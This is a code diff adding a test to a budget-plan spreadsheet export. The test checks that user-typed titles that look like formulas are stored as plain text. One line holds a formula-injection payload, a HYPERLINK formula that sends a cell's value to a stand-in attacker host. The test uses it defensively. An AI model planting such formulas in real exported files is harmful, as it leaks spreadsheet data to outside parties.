@@ -141,3 +141,21 @@ def test_the_estimate_sheet_lists_themes_and_objectives(budget_plan):
     codes = [sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row)]
     assert codes == ["T1", "D1"]
     assert evaluate(sheet, f"G{sheet.max_row}") == Decimal("12000.00")
+
+
+def test_typed_text_that_looks_like_a_formula_stays_text(budget_plan, author):
+    from plans import services as plan_services
+
+    evil = '=HYPERLINK("https://evil.example/?x="&B3,"Klik hier")'
+    theme = budget_plan.themes.get()
+    plan_services.theme_update(actor=author, theme=theme, expected_version=theme.lock_version, title="=1+1")
+    l1 = budget_plan.interventions.get(code="L1")
+    plan_services.intervention_update(actor=author, intervention=l1, expected_version=l1.lock_version, title=evil)
+    book = workbook(budget_plan)
+    texts = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str) and ("evil.example" in cell.value or cell.value.startswith("=1+1"))]
+    assert texts, "the typed titles appear in the workbook"
+    assert all(cell.data_type == "s" for cell in texts)
+    # Our own totals are still formulas.
+    year_sheet = book["Year plan 2027"]
+    assert any(cell.data_type == "f" for row in year_sheet.iter_rows(min_row=2) for cell in row)
